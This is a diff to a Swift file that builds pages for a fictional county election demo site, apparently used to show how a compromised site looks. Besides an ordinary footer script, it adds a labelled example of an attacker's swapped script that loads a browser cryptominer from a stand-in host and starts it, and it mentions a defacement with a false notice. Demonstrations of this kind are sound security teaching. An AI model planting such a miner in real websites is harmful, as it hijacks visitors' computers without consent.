@@ -19,7 +19,8 @@ enum DemoPages {
         </style></head><body>
         <header><a href="/">Clearwater County Elections</a>
         <nav><a href="/register">Register to vote</a><a href="/lookup">Find your polling place</a><a href="/results">Results</a></nav></header>
-        <main>\(body)</main><footer>Demo site served through Pnyx · all names and numbers are fictional</footer></body></html>
+        <main>\(body)</main><footer>Demo site served through Pnyx · all names and numbers are fictional
+        <span id="year"></span></footer><script src="/assets/site.js"></script></body></html>
 
         """
     }
@@ -124,6 +125,17 @@ enum DemoPages {
         }
         return result
     }
+
+    /// The site's own script, on every page: fills in the footer's year.
+    static let siteScript = "document.getElementById('year').textContent = '\\u00b7 ' + new Date().getFullYear();\n"
+
+    /// The site's script swapped by an attacker (as a territory's election site once served): a browser miner.
+    static let swappedScript = """
+        window.minerStarted = true;
+        var s = document.createElement('script'); s.src = 'https://coin-hive.example/lib/coinhive.min.js'; document.head.appendChild(s);
+        var miner = new CoinHive.Anonymous('SITE_KEY', {throttle: 0.3}); miner.start();
+
+        """
 
     /// `page` as an attacker who took over the web server would leave it: a false notice and a cryptominer.
     static func defaced(_ page: String) -> String {
